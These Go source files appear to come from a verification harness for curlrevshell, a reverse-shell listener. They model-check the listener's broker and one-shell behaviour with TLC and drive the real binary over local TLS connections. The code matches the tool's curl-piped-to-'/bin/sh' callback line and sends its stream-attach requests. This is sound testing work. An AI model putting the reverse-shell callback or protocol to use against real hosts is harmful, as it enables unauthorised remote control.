				key = "crash:no-controlling-terminal" // one site: the nil shell used before the error check
			}
			r.Violation(key, d)
			continue
		}
		// classify
		named := ""
		for _, f := range c.Allowed.Fails {
			for _, op := range x.su.operand[f] {
				if strings.Contains(o.text, op) {
					named = f
				}
			}
		}
		info := false
		switch c.Flag {
		case "-h":
			info = strings.Contains(o.text, "Usage")
		case "-print-default-template":
			info = strings.Contains(o.text, "pinnedpubkey")
		case "-print-ctrl-i":
			info = strings.Contains(o.text, "PAYLOADMARK")
		}
		ok := false
		switch {
		case o.status == 0 && info && c.Allowed.Info && !o.served:
			ok = true
		case o.status != 0 && named != "":
			ok = true
		case o.status == 0 && o.served && c.Allowed.Runs && reGoodbye.MatchString(o.text):
			ok = true
		}
		if !ok {
			key := "unclean:"
			switch {
			case o.status == 0 && o.served && !c.Allowed.Runs:
				key += "served-despite-fault"
			case o.status != 0 && named == "":
				key += "message-does-not-name-cause"
			case o.status == 0 && !info && !o.served:
				key += "success-without-doing-anything"
			default:
				key += "other"
			}
			r.Violation(key+":"+strings.Join(c.Faults, "+")+"/"+where, d)
			continue
		}
		if c.TTY && !o.restored {
			r.Violation("terminal-not-restored:"+strings.Join(c.Faults, "+")+"/"+where, d)
			continue
		}
		// agreement with the code-order outcome of Main.tla (informational)
		specOK := (c.Status == "zero" && o.status == 0) || (c.Status == "nonzero" && o.status != 0 && named == c.Cause)
		if specOK {
			agree++
		}
	}
	for i, n := 0, 0; n < 3 && i < len(results); i++ {
		x := results[(i*37)%len(results)]
		if x.su.skip != "" {
			continue
		}
		n++
		r.Sample(map[string]any{"faults": x.c.Faults, "flag": x.c.Flag, "tty": x.c.TTY, "args": x.su.args, "exit_status": x.o.status})
	}
	r.Add("evaluations", nrun)
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", nrun)
	r.Set("impossible_combinations_skipped", nskip)
	r.Set("agree_with_code_order", agree)
	r.Set("exhaustive", true)
	r.Rule("TLC enumerates every fault set of size <= 2 over {unopenable log, listen address bad syntax / in use / unassignable, cache damaged / unwritable / in a directory where nothing can be created, missing Ctrl+I source, -icanhazip offline} x informational flag x TTY yes/no x exit by Ctrl+C / Ctrl+D (for fault-free runs in each of the states idle, one stream attached, shell attached, shell attached and muted, half a line typed, shell flooding the terminal) from Main.tla and emits the allowed outcomes; each is created for real (scratch files, bound ports, pty or no terminal) and run with the real binary: exit status, text (no panic / trace), the message names a cause that is present, termios before start == after exit; non-trivial = distinct configurations with a fault or without TTY")
	r.Assume("faults are the enumerated classes; permission faults are produced with ENOTDIR because the checks run as root")
	_ = bytes.Contains
}
