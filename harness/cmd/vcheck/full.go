package main

import (
	"fmt"
	"io"
	"math/rand"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

// The transcript leg (BrokerFull.tla / BrokerFullTrace.tla): real, free-running brokers with
// output flowing; everything sent on the operator channel is recorded in order by its only
// receiver, and TLC must find a behaviour of the composition that explains both the stamped
// critical sections and that transcript, item for item.

var (
	reLine      = regexp.MustCompile(`^L(\d+)\n$`)
	reChunk     = regexp.MustCompile(`^c(\d+)\.(\d+);$`)
	reAddr      = regexp.MustCompile(`^\[([^\]]*)\] (.*)$`)
	reConnected = regexp.MustCompile(`^(Input|Output) connected: ID (".*")$`)
	reClosed    = regexp.MustCompile(`^(Input|Output) (connection|side of bidirectional connection) closed`)
	reRejSide   = regexp.MustCompile(`^Rejected (?:unexpected )?(input|output) side of bidirect`)
	reRejUni    = regexp.MustCompile(`^Rejected (?:unexpected )?(input|output) connection with ID (".*?")(?:,| while|$)`)
)

type fullItem struct {
	T string `json:"t"`
	A int    `json:"a"`
	D string `json:"d"`
	K string `json:"k"`
	N int    `json:"n"`
}

// classify turns one line of the operator channel into a transcript item; half returns the
// specification attempt for a driver-side half ID, addrHalf the half ID for an address and direction.
func classify(cl opshell.CLine, specOf func(halfID int) int, addrHalf func(addr, dir string) int, keyName func(string) (string, bool)) (fullItem, error) {
	if cl.Plain {
		m := reChunk.FindStringSubmatch(cl.Line)
		if m == nil {
			return fullItem{}, fmt.Errorf("plain line that is no chunk of the driver: %q", cl.Line)
		}
		id, _ := strconv.Atoi(m[1])
		n, _ := strconv.Atoi(m[2])
		return fullItem{T: "chunk", A: specOf(id), D: "out", K: "?", N: n}, nil
	}
	m := reAddr.FindStringSubmatch(cl.Line)
	if m == nil {
		return fullItem{}, fmt.Errorf("notice without an address: %q", cl.Line)
	}
	addr, msg := m[1], m[2]
	short := map[string]string{"Input": "in", "Output": "out", "input": "in", "output": "out"}
	it := fullItem{K: "?"}
	switch {
	case strings.Contains(msg, iobroker.ShellReadyMessage):
		it.T = "ready"
	case strings.Contains(msg, iobroker.ShellDisconnectedMessage):
		it.T = "gone"
	case reConnected.MatchString(msg):
		mm := reConnected.FindStringSubmatch(msg)
		it.T, it.D = "connected", short[mm[1]]
		if k, err := strconv.Unquote(mm[2]); err == nil {
			if kn, ok := keyName(k); ok {
				it.K = kn
			}
		}
	case reClosed.MatchString(msg):
		mm := reClosed.FindStringSubmatch(msg)
		it.T, it.D = "closed", short[mm[1]]
		if strings.HasPrefix(mm[2], "side") {
			it.K = "B"
		}
	case msg == "Missing Key":
		it.T, it.K = "refused", ""
	case reRejSide.MatchString(msg):
		it.T, it.D, it.K = "refused", short[reRejSide.FindStringSubmatch(msg)[1]], "B"
	case reRejUni.MatchString(msg):
		mm := reRejUni.FindStringSubmatch(msg)
		it.T, it.D = "refused", short[mm[1]]
		if k, err := strconv.Unquote(mm[2]); err == nil {
			if kn, ok := keyName(k); ok {
				it.K = kn
			}
		}
	default:
		return fullItem{}, fmt.Errorf("notice of unknown kind: %q", cl.Line)
	}
	if it.T != "ready" && it.T != "gone" {
		if h := addrHalf(addr, it.D); h != 0 {
			it.A = specOf(h)
		}
	} else if h := addrHalf(addr, ""); h != 0 {
		it.A = specOf(h)
	}
	return it, nil
}

func fullTraceCfg(natt, nkeys, maxChunks int, partial, lines bool) string {
	maxLines := 0
	if lines {
		maxLines = 3
	}
	atts := make([]string, natt)
	for i := range atts {
		atts[i] = fmt.Sprint(i + 1)
	}
	ks := []string{`""`}
	for i := 1; i <= nkeys; i++ {
		ks = append(ks, fmt.Sprintf(`"K%d"`, i))
	}
	return fmt.Sprintf(`SPECIFICATION TSpec
CONSTANTS
  Att = {%s}
  Keys = {%s}
  MaxReq = %d
  MaxHangups = 0
  PerReqKey = TRUE
  EmitEdges = FALSE
  MaxChunks = %d
  MaxLines = %d
  Partial = %s
  CheckLines = %s
INVARIANTS NotAllConsumed OneShell Consistent ExactlyOneGone OnlyAttachedShown RefusedGetNothing ChunksInOrder ChunksBeforeClosed GenMonotone GoneClosesGeneration ReadyInsideGeneration OneGonePerGeneration LinesGapFree LinesInOrder LinesOnlyToAttached
CHECK_DEADLOCK FALSE
`, strings.Join(atts, ","), strings.Join(ks, ","), natt, maxChunks, maxLines, map[bool]string{true: "TRUE", false: "FALSE"}[partial], map[bool]string{true: "TRUE", false: "FALSE"}[lines])
}

type fullLine struct {
	N int `json:"n"`
	A int `json:"a"`
}

type fullExec struct {
	evs   []brk.TraceEv // Items event first
	lines []fullLine
	items []fullItem
	raw   []string
	seed  int64
}

// fullExecution runs one free-running world and returns its trace.
func fullExecution(seed int64, sameHost bool) (*fullExec, int, int, error) {
	rng := rand.New(rand.NewSource(seed))
	w, err := brk.NewWorld(4096, false)
	if err != nil {
		return nil, 0, 0, err
	}
	w.Record = true
	w.SameHost = sameHost
	w.NoDrain = true
	var got []opshell.CLine
	stop := make(chan struct{})
	recDone := make(chan struct{})
	go func() {
		defer close(recDone)
		for {
			select {
			case cl := <-w.Och:
				got = append(got, cl)
			case <-stop:
				for {
					select {
					case cl := <-w.Och:
						got = append(got, cl)
					default:
						return
					}
				}
			}
		}
	}()
	keys := []string{"", "alpha", "alpha", "alpha", "alph", "ALPHA"}
	var halves []*brk.Half
	addrOf := map[string][]*brk.Half{}
	nreq := 3 + rng.Intn(5)
	id := 0
	var hw sync.WaitGroup
	feed := func(h *brk.Half) {
		// an output stream sends up to three chunks and may then end by itself
		if h.Dir != "out" {
			return
		}
		n := rng.Intn(4)
		endSelf := rng.Intn(2) == 0
		pause := time.Duration(rng.Intn(150)) * time.Microsecond
		hw.Add(1)
		go func() {
			defer hw.Done()
			for i := 1; i <= n; i++ {
				h.R.Push(brk.RRes{Data: []byte(fmt.Sprintf("c%d.%d;", h.ID, i))})
				if pause > 0 {
					time.Sleep(pause)
				}
			}
			if endSelf {
				h.R.Push(brk.RRes{Err: io.EOF})
			}
		}()
	}
	// the operator enters up to three lines at some time
	nlines := rng.Intn(4)
	lpause := time.Duration(rng.Intn(400)) * time.Microsecond
	hw.Add(1)
	go func() {
		defer hw.Done()
		for i := 1; i <= nlines; i++ {
			time.Sleep(lpause)
			w.Ich <- fmt.Sprintf("L%d", i)
		}
	}()
	for q := 0; q < nreq; q++ {
		switch rng.Intn(3) {
		case 0:
			hi, ho := w.StartIO(id+1, id+2, q+1, "")
			id += 2
			halves = append(halves, hi, ho)
			addrOf[hi.Addr] = append(addrOf[hi.Addr], hi, ho)
			feed(ho)
		default:
			id++
			dir := []string{"in", "out"}[rng.Intn(2)]
			h := w.StartUni(id, dir, keys[rng.Intn(len(keys))], q+1, "")
			halves = append(halves, h)
			addrOf[h.Addr] = append(addrOf[h.Addr], h)
			feed(h)
		}
		if rng.Intn(3) == 0 {
			time.Sleep(time.Duration(rng.Intn(300)) * time.Microsecond)
		}
		if rng.Intn(3) == 0 && len(halves) > 0 {
			h := halves[rng.Intn(len(halves))]
			d := time.Duration(rng.Intn(200)) * time.Microsecond
			hw.Add(1)
			go func() {
				defer hw.Done()
				time.Sleep(d)
				h.Cancel()
				h.R.Close()
			}()
		}
	}
	hw.Wait()
	time.Sleep(time.Duration(rng.Intn(500)) * time.Microsecond)
	cerr := w.Cleanup()
	close(stop)
	<-recDone
	if cerr != nil {
		return nil, 0, 0, cerr
	}
	var lines []hookLine
	realOf := map[int]uint64{}
	for _, e := range w.Trace {
		lines = append(lines, hookLine{B: 1, Att: e.St.Att, P: e.Point, Dir: map[string]string{"in": "input", "out": "output"}[e.Dir],
			Key: e.Key, Seq: e.Seq, HReq: e.Req, SKey: e.St.Key, In: e.St.In, Out: e.St.Out, NoMore: e.St.NoMore, Locked: e.St.Locked})
		realOf[e.Att] = e.St.Att
	}
	evs, na, nk, ids, keyNames, err := ctlEventsIDs(lines)
	if err != nil {
		return nil, 0, 0, err
	}
	specOf := func(halfID int) int {
		if ra, ok := realOf[halfID]; ok {
			return ids[ra]
		}
		return 0
	}
	addrHalf := func(addr, dir string) int {
		if sameHost {
			return 0
		}
		hs := addrOf[addr]
		if len(hs) == 1 {
			return hs[0].ID
		}
		for _, h := range hs {
			if dir != "" && h.Dir == dir {
				return h.ID
			}
		}
		return 0
	}
	keyName := func(k string) (string, bool) { v, ok := keyNames[k]; return v, ok }
	fe := &fullExec{seed: seed, items: []fullItem{}, lines: []fullLine{}}
	for _, h := range halves {
		if h.Dir != "in" {
			continue
		}
		for _, op := range h.W.Snapshot() {
			if op.Kind != "write" {
				continue
			}
			m := reLine.FindStringSubmatch(op.Data)
			if m == nil {
				return nil, 0, 0, fmt.Errorf("input stream %d was written %q, which is no line of the driver", h.ID, op.Data)
			}
			n, _ := strconv.Atoi(m[1])
			fe.lines = append(fe.lines, fullLine{N: n, A: specOf(h.ID)})
		}
	}
	sort.SliceStable(fe.lines, func(i, j int) bool { return fe.lines[i].N < fe.lines[j].N })
	for _, cl := range got {
		it, err := classify(cl, specOf, addrHalf, keyName)
		if err != nil {
			return nil, 0, 0, err
		}
		fe.items = append(fe.items, it)
		fe.raw = append(fe.raw, cl.Line)
	}
	fe.evs = append(fe.evs, brk.TraceEv{"e": "Items", "items": fe.items, "lines": fe.lines})
	for _, e := range evs {
		if e["e"] == "ProxyEnd" { // placed by TLC: the proxy returns, and says so, outside the lock
			continue
		}
		fe.evs = append(fe.evs, e)
	}
	return fe, na, nk, nil
}

// withItems returns the trace with only the first m items of its transcript.
func (fe *fullExec) withItems(m int) []brk.TraceEv {
	out := append([]brk.TraceEv{{"e": "Items", "items": fe.items[:m], "lines": fe.lines}}, fe.evs[1:]...)
	return out
}

func fullAttribute(it fullItem) (string, string) {
	switch it.T {
	case "chunk":
		return "C03", "transcript:chunk"
	case "closed":
		return "C03", "transcript:close-notice-position"
	case "refused":
		return "C01", "transcript:refusal"
	case "connected":
		return "C01", "transcript:admission"
	}
	return "C04", "transcript:" + it.T
}

// transcriptLeg validates n free-running executions against BrokerFull.
func transcriptLeg(r *ev.Run, prop string, n int) {
	if res, err := tlcrun.Run(tlcrun.Opts{Module: "BrokerFull", Config: map[string]string{"quick": "BrokerFull_q", "thorough": "BrokerFull_t"}[r.Tier], Workers: 12, Timeout: 15 * time.Minute}); err != nil || res.TimedOut || res.Violated != "" {
		r.Inconclusive("TLC BrokerFull_q: err=%v violated=%q\n%s", err, resViolated(res), tail(res))
		return
	} else {
		r.Add("tlc_states", res.Distinct)
		r.Append("tlc_invariants_checked", "BrokerFull: OnlyAttachedShown RefusedGetNothing ChunksInOrder ChunksBeforeClosed GenMonotone GoneClosesGeneration ClosedBeforeGone ReadyInsideGeneration OneGonePerGeneration LinesGapFree LinesInOrder LinesOnlyToAttached TranscriptAppendOnly")
	}
	var execs []*fullExec
	var mu sync.Mutex
	var wg sync.WaitGroup
	natt, nkeys := 2, 2
	sem := make(chan struct{}, 8)
	for i := 0; i < n; i++ {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			fe, na, nk, err := fullExecution(r.Seed*92821+int64(i), i%2 == 1)
			if err != nil {
				r.Inconclusive("transcript execution %d: %v", i, err)
				return
			}
			mu.Lock()
			execs = append(execs, fe)
			if na > natt {
				natt = na
			}
			if nk > nkeys {
				nkeys = nk
			}
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	if len(execs) == 0 {
		return
	}
	traces := make([][]brk.TraceEv, len(execs))
	items := 0
	for i, fe := range execs {
		traces[i] = fe.evs
		items += len(fe.items)
	}
	r.Add("transcript_executions", len(execs))
	r.Add("transcript_items", items)
	cfg := fullTraceCfg(natt, nkeys, 3, false, true)
	ok, tres, err := traceAccepted("BrokerFullTrace", cfg, traces)
	if err != nil {
		r.Inconclusive("transcript validation: %v\n%s", err, tail(tres))
		return
	}
	r.Add("trace_validation_states", tres.Distinct)
	r.Add("traces_validated_against_impl", len(traces))
	if ok {
		transcriptSelfTest(r, execs, cfg)
		return
	}
	idx := make([]int, len(traces))
	for i := range idx {
		idx[i] = i
	}
	var rej []int
	if err := findRejected("BrokerFullTrace", cfg, idx, traces, 4, &rej); err != nil {
		r.Inconclusive("transcript validation, bisecting: %v", err)
		return
	}
	pcfg := fullTraceCfg(natt, nkeys, 3, true, false)
	nolines := fullTraceCfg(natt, nkeys, 3, false, false)
	for _, k := range rej {
		fe := execs[k]
		// explained but for the input side?
		if ok, _, err := traceAccepted("BrokerFullTrace", nolines, [][]brk.TraceEv{fe.evs}); err == nil && ok {
			d := map[string]any{"kind": "BrokerFull-transcript", "seed": fe.seed, "trace": fe.evs, "transcript": fe.raw, "lines_written": fe.lines,
				"what": "no behaviour of the composition writes the entered lines to these streams (line n -> stream a) while sending this transcript"}
			if prop == "C02" {
				r.Violation("transcript:lines", d)
			} else {
				fmt.Printf("note: transcript refused for its input side (seed %d), attributed to C02\n", fe.seed)
			}
			continue
		}
		// the first item of the transcript no behaviour explains
		accepts := func(m int) (bool, string, error) {
			ok, res, err := traceAccepted("BrokerFullTrace", pcfg, [][]brk.TraceEv{fe.withItems(m)})
			inv := ""
			if res != nil && res.Violated != "NotAllConsumed" {
				inv = res.Violated
			}
			return ok, inv, err
		}
		okAll, inv, err := accepts(len(fe.items))
		if err != nil {
			r.Inconclusive("transcript validation, locating: %v", err)
			continue
		}
		p, aspect := "C04", "transcript:incomplete"
		at := -1
		if !okAll {
			lo, hi := 0, len(fe.items)
			if ok0, _, _ := accepts(0); !ok0 {
				// the critical sections alone are not a behaviour: the control part's own validation speaks
				fmt.Printf("note: transcript trace (seed %d) refused without any item: left to the control trace validation\n", fe.seed)
				continue
			}
			for hi-lo > 1 {
				mid := (lo + hi) / 2
				if ok, _, _ := accepts(mid); ok {
					lo = mid
				} else {
					hi = mid
				}
			}
			at = hi - 1
			_, inv, _ = accepts(hi)
			p, aspect = fullAttribute(fe.items[at])
		}
		if inv != "" {
			aspect += ":" + inv
		}
		d := map[string]any{"kind": "BrokerFull-transcript", "seed": fe.seed, "trace": fe.evs, "transcript": fe.raw, "first_unexplained_item_index": at, "violated_invariant": inv}
		if at >= 0 {
			d["first_unexplained_item"] = fe.items[at]
			d["first_unexplained_line"] = fe.raw[at]
		}
		if p == prop {
			r.Violation(aspect, d)
		} else {
			fmt.Printf("note: transcript refused at item %d (%s), attributed to %s\n", at, aspect, p)
		}
	}
}

// transcriptSelfTest shows that the acceptance just obtained is not vacuous: transcripts of
// accepted executions are damaged the way a broken broker would damage them (a chunk after its
// stream's closing notice, a second "gone", the ready notice missing, a chunk of a refused
// stream) and TLC must refuse every damaged one.  An accepted damaged transcript makes the
// check inconclusive (the oracle cannot be relied on); it is never a verdict on the code.
func transcriptSelfTest(r *ev.Run, execs []*fullExec, cfg string) {
	type mut struct {
		name string
		f    func(items []fullItem) []fullItem
	}
	cp := func(items []fullItem) []fullItem { return append([]fullItem(nil), items...) }
	muts := []mut{
		{"chunk-after-its-closing-notice", func(items []fullItem) []fullItem {
			for i, it := range items {
				if it.T != "chunk" {
					continue
				}
				for j := i + 1; j < len(items); j++ {
					if items[j].T == "closed" && items[j].D == "out" && items[j].A == it.A && it.A != 0 {
						out := cp(items)
						c := out[i]
						copy(out[i:j], out[i+1:j+1])
						out[j] = c
						return out
					}
				}
			}
			return nil
		}},
		{"second-gone", func(items []fullItem) []fullItem {
			for i, it := range items {
				if it.T == "gone" {
					out := cp(items[:i+1])
					out = append(out, it)
					return append(out, items[i+1:]...)
				}
			}
			return nil
		}},
		{"ready-missing", func(items []fullItem) []fullItem {
			for i, it := range items {
				if it.T == "ready" {
					out := cp(items[:i])
					return append(out, items[i+1:]...)
				}
			}
			return nil
		}},
		{"output-of-a-refused-stream", func(items []fullItem) []fullItem {
			for i, it := range items {
				if it.T == "refused" && it.D == "out" && it.A != 0 {
					out := cp(items[:i+1])
					out = append(out, fullItem{T: "chunk", A: it.A, D: "out", K: "?", N: 1})
					return append(out, items[i+1:]...)
				}
			}
			return nil
		}},
		{"gone-before-closing-notice", func(items []fullItem) []fullItem {
			for i := 0; i+1 < len(items); i++ {
				if items[i].T == "closed" && items[i+1].T == "gone" {
					out := cp(items)
					out[i], out[i+1] = out[i+1], out[i]
					return out
				}
			}
			return nil
		}},
	}
	done := 0
	// the input side: a line written to a refused stream, a line written twice
	for _, fe := range execs {
		if len(fe.lines) == 0 {
			continue
		}
		dup := append(append([]fullLine(nil), fe.lines...), fullLine{N: fe.lines[len(fe.lines)-1].N, A: fe.lines[len(fe.lines)-1].A})
		t := append([]brk.TraceEv{{"e": "Items", "items": fe.items, "lines": dup}}, fe.evs[1:]...)
		if ok, res, err := traceAccepted("BrokerFullTrace", cfg, [][]brk.TraceEv{t}); err != nil {
			r.Inconclusive("transcript self-test line-written-twice: %v\n%s", err, tail(res))
		} else if ok {
			r.Inconclusive("transcript self-test: TLC accepts an execution in which a line was written twice (seed %d)", fe.seed)
		} else {
			done++
		}
		break
	}
	for _, m := range muts {
		for _, fe := range execs {
			bad := m.f(fe.items)
			if bad == nil {
				continue
			}
			t := append([]brk.TraceEv{{"e": "Items", "items": bad, "lines": fe.lines}}, fe.evs[1:]...)
			ok, res, err := traceAccepted("BrokerFullTrace", cfg, [][]brk.TraceEv{t})
			if err != nil {
				r.Inconclusive("transcript self-test %s: %v\n%s", m.name, err, tail(res))
			} else if ok {
				r.Inconclusive("transcript self-test: TLC accepts a transcript damaged by %q (seed %d): the transcript oracle is too weak to be relied on", m.name, fe.seed)
			} else {
				done++
			}
			break
		}
	}
	r.Set("transcript_selftest_damaged_transcripts_refused", done)
}
