package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"math/rand"
	"net"
	"os"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C12", "model_checking", oneShellCampaign)
}

type osState struct {
	Listener string
	In, Out  bool
	EverFull bool
	Gone     bool
	Proc     string
	Held     int
}

func parseOS(raw json.RawMessage) osState {
	var a []any
	json.Unmarshal(raw, &a)
	b := func(i int) bool { v, _ := a[i].(bool); return v }
	s := func(i int) string { v, _ := a[i].(string); return v }
	if len(a) < 12 {
		return osState{}
	}
	held := 0
	if len(a) > 12 {
		if f, ok := a[12].(float64); ok {
			held = int(f)
		}
	}
	return osState{Listener: s(0), In: b(1), Out: b(2), EverFull: b(4), Gone: b(6), Proc: s(8), Held: held}
}

type osAct struct {
	N     string `json:"n"`
	D     string `json:"d"`
	How   string `json:"how"`
	OK    bool   `json:"ok"`
	Exits bool   `json:"exits"`
}

type osDiv struct {
	aspect, desc string
	step         int
}

type stream struct {
	c  net.Conn
	br *bufio.Reader
}

func dialTLS(addr string) (net.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
}

var reListen = regexp.MustCompile(`Listening on (\S+)`)

func oneShellWalk(bin string, g *graph.G, walk []int, seed int64) (divs []osDiv, labels []string, infra error) {
	rng := rand.New(rand.NewSource(seed))
	dir, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "os")
	if err != nil {
		return nil, nil, err
	}
	defer os.RemoveAll(dir)
	p, err := ptyx.Start(bin, []string{"-one-shell", "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", dir + "/c.txtar"}, ptyx.Opts{Dir: dir, Env: []string{"HOME=" + dir}})
	if err != nil {
		return nil, nil, err
	}
	defer p.Close()
	m, ok := p.WaitFor(reListen, 0, 10*time.Second)
	if !ok {
		return nil, nil, fmt.Errorf("binary did not start: %s", p.Output())
	}
	addr := string(reListen.FindSubmatch(m)[1])
	if _, ok := p.WaitFor(regexp.MustCompile(`/c \| /bin/sh`), 0, 5*time.Second); !ok {
		return nil, nil, fmt.Errorf("no callback help")
	}
	var in, out, io *stream
	type heldConn struct {
		c     net.Conn
		since time.Time
	}
	var held []heldConn
	defer func() {
		for _, h := range held {
			h.c.Close()
		}
	}()
	id := fmt.Sprintf("id%d", rng.Intn(1e6))
	div := func(step int, aspect, format string, a ...any) {
		divs = append(divs, osDiv{aspect, fmt.Sprintf(format, a...), step})
	}
	mark := func() int { return len(p.Output()) }
	expect := func(from int, re string, d time.Duration) bool {
		_, ok := p.WaitFor(regexp.MustCompile(re), from, d)
		return ok
	}
	closeAll := func() {
		for _, s := range []*stream{in, out, io} {
			if s != nil {
				s.c.Close()
			}
		}
		in, out, io = nil, nil, nil
	}
	defer closeAll()
	probe := func() bool {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			return false
		}
		c.Close()
		return true
	}
	exited := false
	goneAt := -1
	for i, ei := range walk {
		var a osAct
		json.Unmarshal(g.Edges[ei].Act, &a)
		from := parseOS(g.State[g.Edges[ei].From])
		if a.N == "tau" {
			continue
		}
		labels = append(labels, a.N+map[bool]string{true: "(" + a.D + a.How + ")", false: ""}[a.D+a.How != ""])
		switch a.N {
		case "Attach":
			c, err := dialTLS(addr)
			if err != nil && from.EverFull {
				continue // the listener is already closed: the implementation is ahead of the specification's silent step
			}
			if err != nil {
				div(i, "listener-closed-early", "a stream cannot connect although no shell has been fully attached: %v", err)
				return
			}
			off := mark()
			if a.D == "in" {
				fmt.Fprintf(c, "GET /i/%s HTTP/1.1\r\nHost: x\r\n\r\n", id)
				in = &stream{c, bufio.NewReader(c)}
				if !expect(off, `Input connected`, 5*time.Second) {
					div(i, "attach", "input stream not attached")
					return
				}
			} else {
				fmt.Fprintf(c, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", id)
				out = &stream{c, bufio.NewReader(c)}
				if !expect(off, `Output connected`, 5*time.Second) {
					div(i, "attach", "output stream not attached")
					return
				}
			}
			if in != nil && out != nil && !expect(off, `Shell is ready`, 5*time.Second) {
				div(i, "attach", "no ready notice")
				return
			}
		case "AttachIO":
			c, err := dialTLS(addr)
			if err != nil && from.EverFull {
				continue
			}
			if err != nil {
				div(i, "listener-closed-early", "a stream cannot connect although no shell has been fully attached: %v", err)
				return
			}
			off := mark()
			fmt.Fprintf(c, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			io = &stream{c, bufio.NewReader(c)}
			if !expect(off, `Shell is ready`, 5*time.Second) {
				div(i, "attach", "duplex stream not attached")
				return
			}
		case "Hold":
			// a client that has connected (TLS and all) before the listener closes and sends its request later
			c, err := dialTLS(addr)
			if err != nil && from.EverFull {
				return // the implementation is ahead of the specification's silent step: nothing to hold
			}
			if err != nil {
				div(i, "listener-closed-early", "a client cannot connect although no shell has been fully attached: %v", err)
				return
			}
			held = append(held, heldConn{c, time.Now()})
		case "HeldCloses":
			if len(held) > 0 {
				held[0].c.Close()
				held = held[1:]
			}
		case "LateIO":
			if len(held) == 0 {
				return
			}
			h := held[0]
			held = held[1:]
			if time.Since(h.since) > 3500*time.Millisecond {
				// the graceful shutdown closes connections that have sent nothing for 5 s (HeldCloses): too late to tell
				h.c.Close()
				return
			}
			off := mark()
			fmt.Fprintf(h.c, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			io = &stream{h.c, bufio.NewReader(h.c)}
			if !expect(off, `Shell is ready`, 5*time.Second) {
				if ex, st := p.Exited(); ex {
					div(i, "exits-early", "the program exited (status %d) when a connection accepted before the listener closed sent its /io request", st)
				} else {
					div(i, "late-shell", "a connection accepted before the listener closed sent /io after the first shell had gone and was not served")
				}
				return
			}
		case "Refused":
			c, err := dialTLS(addr)
			if err != nil && from.EverFull {
				continue
			}
			if err != nil {
				div(i, "listener-closed-early", "a further attempt cannot even connect although no shell has been fully attached: %v", err)
				return
			}
			off := mark()
			if a.D == "in" {
				fmt.Fprintf(c, "GET /i/%s-other HTTP/1.1\r\nHost: x\r\n\r\n", id)
			} else {
				fmt.Fprintf(c, "POST /o/%s-other HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", id)
			}
			ok := expect(off, `Rejected`, 5*time.Second)
			c.Close()
			if !ok {
				div(i, "attach", "no refusal notice")
				return
			}
		case "DropHalf":
			off := mark()
			closeAll()
			if !expect(off, `Shell is gone`, 5*time.Second) {
				div(i, "attach", "half-attached stream did not go away")
				return
			}
		case "Probe":
			switch {
			case a.OK && !from.EverFull:
				if !probe() {
					div(i, "listener-closed-early", "the listening socket refuses connections although no shell has been fully attached")
					return
				}
			case !a.OK:
				dl := time.Now().Add(3 * time.Second)
				refused := false
				for time.Now().Before(dl) {
					if !probe() {
						refused = true
						break
					}
					time.Sleep(5 * time.Millisecond)
				}
				if !refused {
					div(i, "listener-not-closed", "new TCP connections are still accepted 3 s after the shell was fully attached")
					return
				}
				time.Sleep(20 * time.Millisecond)
				if probe() {
					div(i, "listener-not-closed", "the listening socket accepted a connection again after having refused one")
					return
				}
			}
		case "Traffic":
			// operator -> shell
			tok := fmt.Sprintf("tok%d", rng.Intn(1e9))
			p.Type([]byte("echo " + tok + "\r"))
			rd := in
			if io != nil {
				rd = io
			}
			got := make(chan bool, 1)
			go func() {
				rd.c.SetReadDeadline(time.Now().Add(5 * time.Second))
				var buf bytes.Buffer
				b := make([]byte, 4096)
				for {
					n, err := rd.br.Read(b)
					buf.Write(b[:n])
					if bytes.Contains(buf.Bytes(), []byte(tok)) {
						got <- true
						return
					}
					if err != nil {
						got <- false
						return
					}
				}
			}()
			if !<-got {
				div(i, "shell-disturbed", "a line typed by the operator did not reach the attached shell after the listener closed")
				return
			}
			// shell -> operator
			wr := out
			if io != nil {
				wr = io
			}
			otok := fmt.Sprintf("out%d", rng.Intn(1e9))
			off := mark()
			payload := otok + "\n"
			fmt.Fprintf(wr.c, "%x\r\n%s\r\n", len(payload), payload)
			if !expect(off, otok, 5*time.Second) {
				div(i, "shell-disturbed", "output of the attached shell is no longer displayed")
				return
			}
		case "EndShell":
			off := mark()
			goneAt = off
			if io != nil {
				io.c.Close()
				io = nil
			} else if a.How == "in-closes" {
				in.c.Close()
				in = nil
			} else {
				out.c.Close()
				out = nil
			}
			if !expect(off, `Shell is gone`, 8*time.Second) {
				div(i, "shell-end", "the shell did not go away when one of its streams was closed")
				return
			}
			closeAll()
		case "OperatorLine":
			mayExit := from.Gone && !from.In && !from.Out && from.EverFull
			p.Type([]byte("\r"))
			if a.Exits || mayExit {
				// The graceful shutdown notices the end of the shell by polling (up to 500 ms
				// apart), so a line entered right after the shell has gone may still be an
				// ordinary line; the deciding line is entered at the end of the walk.
				ex, st := p.WaitExit(400 * time.Millisecond)
				if ex {
					exited = true
					if st != 0 {
						div(i, "exit-status", "exit status %d", st)
					}
				}
